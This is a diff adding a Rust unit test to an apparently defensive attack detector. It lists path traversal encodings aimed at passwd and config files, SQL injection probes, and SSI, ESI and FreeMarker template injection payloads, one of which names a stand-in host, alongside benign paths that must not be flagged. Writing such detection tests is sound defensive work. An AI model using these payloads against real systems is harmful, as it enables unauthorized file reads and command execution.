@@ -1281,3 +1281,65 @@ fn payload_list_shapes() {
         Class::Traversal,
     );
 }
+
+/// Shapes of PayloadsAllTheThings' lists that the shared corpus does not hold (dotdotpwn's
+/// encodings, the file inclusion lists, error-based SQL, SSI/ESI and template probes), and the
+/// paths and notes they must not catch.
+#[test]
+fn file_inclusion_shapes() {
+    assert_attacks(
+        &[
+            "..%c0%9v..%c0%9vetc%c0%9vpasswd",
+            "%c0%ee%c0%ee%c1%1c%c0%ee%c0%ee%c1%1cboot.ini",
+            ".?%%32%%66.?%%32%%66etc%%32%%66passwd",
+            "%f8%80%80%80%ae%f8%80%80%80%ae%f8%80%80%80%afetc%f8%80%80%80%afissue",
+            "..%bg%qf..%bg%qfetc%bg%qfpasswd",
+            ".%00.0x2fetc0x2fpasswd",
+            "??%uF025??%uF025etc%uF025issue",
+            "%c0%5e%c0%5e%c0%9vetc%c0%9vissue",
+            "/0x2e0x2e/0x2e0x2e/",
+            "..2f..2f..2fetc2fpasswd",
+            "Li4vLi4vLi4vZXRjL3Bhc3N3ZA==",
+            "/usr/local/apache2/conf/httpd.conf",
+            "/opt/lampp/logs/error_log",
+            "/var/log/nginx/access.log",
+            "/proc/version",
+            "/etc/bashrc",
+            "C:\\xampp\\apache\\conf\\httpd.conf",
+            "C:/program files (x86)/apache group/apache/conf/httpd.conf",
+            "C:/windows/panther/unattend/sysprep.xml",
+            "C:/documents and settings/administrator/ntuser.ini",
+            "/usr/local/apache/logs/access_log%00",
+            "/var/lib/php/session/sess_abc123",
+            "convert.iconv.UTF8.CSISO2022KR",
+        ],
+        Class::Traversal,
+    );
+    assert_attacks(&[" ORDER BY 12-- ", " ORDER BY 27# ", " HAVING 1=0-- "], Class::Sqli);
+    assert_attacks(
+        &[
+            "<!--#flastmod virtual=\"echo.html\" -->",
+            "<esi:include src=\"http://evil.example/\"/>",
+            "<#assign ex = \"freemarker.template.utility.Execute\"?new()>${ ex(\"id\")}",
+        ],
+        Class::Cmdi,
+    );
+    assert_benign(
+        &[
+            "/var/data/marketdata/2024/06/03/AAPL.parquet",
+            "/srv/php/app/index.html",
+            "/api/v2/php/handlers",
+            "/etc/ssl/certs/ca-certificates.crt",
+            "/etc/postgresql/15/main/pg_hba.conf",
+            "C:\\Users\\trader\\Documents\\pnl.xlsx",
+            "\\\\nas01\\exports\\fills 2024-06.csv",
+            "/docs/apache-license.txt",
+            "/var/log/oms/oms-2024-06-03.log is full, rotate it",
+            "check the log at /var/log/oms/oms-2024-06-03.log, line 4412",
+            "Order by 2 #",
+            "GROUP BY 1 --",
+            "convert the report to PDF",
+        ],
+        Context::Auto,
+    );
+}
